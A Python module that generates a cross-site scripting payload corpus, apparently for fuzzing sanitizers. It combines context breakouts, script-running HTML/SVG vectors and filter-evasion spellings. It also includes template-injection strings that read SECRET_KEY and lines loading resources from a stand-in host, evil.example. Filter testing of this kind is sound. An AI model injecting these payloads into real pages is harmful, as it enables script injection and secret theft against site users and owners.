"""What those try who want a script of theirs to run on somebody else's page.

The classes of the field (OWASP's cheat sheet on evading filters names them): a way out
of where the text stands, something that runs, a spelling that a filter may not know.
"""

from itertools import product

OUT = ("", '"', "'", "-->", "</title>", "</script>", "</textarea>", "]]>", "`", '\\"')
RUNS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1) id=x tabindex=1 onfocus=alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/a.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    " onmouseover=alert(1) onfocus=alert(1) autofocus x=",
)


def shouted(text: str) -> str:
    return text.replace("script", "ScRiPt").replace("on", "oN").replace("<", "<\n")


def written_as_entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;")


def split(text: str) -> str:
    return text.replace("javascript", "java\tscript").replace(" on", "/on")


PAYLOADS = tuple(
    spelled(out + run)
    for out, run, spelled in product(
        OUT, RUNS, (str, shouted, written_as_entities, split)
    )
)


def parcels(most: int) -> list[str]:
    """All of them, as many in each text as go into `most` characters."""
    made, text = [], ""
    for payload in PAYLOADS:
        if text and len(text) + len(payload) > most:
            made.append(text)
            text = ""
        text += payload
    return [*made, text]
